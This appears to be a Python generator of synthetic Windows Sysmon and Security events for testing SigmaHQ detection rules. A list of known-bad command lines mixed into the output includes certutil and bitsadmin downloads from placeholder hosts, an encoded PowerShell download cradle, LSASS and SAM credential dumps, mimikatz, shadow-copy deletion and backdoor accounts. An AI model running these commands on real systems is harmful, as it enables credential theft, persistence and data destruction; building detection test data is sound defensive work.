"""Windows-style events (Sysmon process creation, file and registry events, Security logons) for
measuring SigmaHQ rules: mostly benign, with a share of known-bad command lines so that rules
fire. Deterministic for a seed."""

from __future__ import annotations

import random
from typing import Any

_SYS = "C:\\Windows\\System32\\"
_BENIGN = [
    (_SYS + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (_SYS + "notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\li\\notes.txt"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
     "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"),
    (_SYS + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
     "\"EXCEL.EXE\" /dde C:\\Users\\wang\\report.xlsx"),
    (_SYS + "taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
    (_SYS + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -File C:\\scripts\\backup.ps1"),
    (_SYS + "cmd.exe", "cmd.exe /c dir C:\\data"),
]
_BAD = [
    (_SYS + "whoami.exe", "whoami /all"),
    (_SYS + "certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
    (_SYS + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
    (_SYS + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full"),
    (_SYS + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (_SYS + "reg.exe", "reg.exe save hklm\\sam C:\\temp\\sam.save"),
    (_SYS + "schtasks.exe", "schtasks /create /sc minute /mo 5 /tn upd /tr C:\\Users\\Public\\u.exe"),
    (_SYS + "net.exe", "net user admin2 P@ssw0rd /add"),
    (_SYS + "bitsadmin.exe", "bitsadmin /transfer j /download /priority high http://x.example/p.exe C:\\p.exe"),
    ("C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe \"sekurlsa::logonpasswords\" exit"),
]
_PARENTS = [_SYS + "explorer.exe", _SYS + "services.exe", _SYS + "cmd.exe",
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"]
_USERS = ["CORP\\li", "CORP\\wang", "NT AUTHORITY\\SYSTEM", "CORP\\zhang"]


def generate(n: int, seed: int = 7, bad_share: float = 0.05) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    out: list[dict[str, Any]] = []
    for i in range(n):
        kind = rnd.random()
        base: dict[str, Any] = {"ts": f"2026-03-02T{(i // 3600) % 24:02d}:{(i // 60) % 60:02d}:"
                                      f"{i % 60:02d}Z",
                                "Computer": f"ws{rnd.randrange(200):03d}.corp.example",
                                "event_id": f"w-{i:07d}"}
        if kind < 0.7:
            image, cmd = rnd.choice(_BAD if rnd.random() < bad_share else _BENIGN)
            base.update({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1,
                         "Image": image, "CommandLine": cmd,
                         "OriginalFileName": image.rsplit("\\", 1)[-1].upper(),
                         "ParentImage": rnd.choice(_PARENTS), "User": rnd.choice(_USERS),
                         "IntegrityLevel": rnd.choice(["Medium", "High", "System"]),
                         "CurrentDirectory": "C:\\Windows\\system32\\",
                         "Hashes": f"SHA256={rnd.getrandbits(256):064x}"})
        elif kind < 0.85:
            base.update({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11,
                         "Image": rnd.choice(_BENIGN)[0],
                         "TargetFilename": f"C:\\Users\\li\\AppData\\Local\\Temp\\f{rnd.randrange(10**6)}.tmp"})
        elif kind < 0.95:
            base.update({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 13,
                         "EventType": "SetValue", "Image": rnd.choice(_BENIGN)[0],
                         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\u"
                         if rnd.random() < bad_share else "HKCU\\Software\\Classes\\x",
                         "Details": "C:\\Users\\Public\\u.exe"})
        else:
            base.update({"Channel": "Security", "EventID": rnd.choice([4624, 4625, 4688]),
                         "LogonType": rnd.choice([2, 3, 10]), "TargetUserName": "li",
                         "IpAddress": f"10.0.{rnd.randrange(255)}.{rnd.randrange(255)}"})
        out.append(base)
    return out
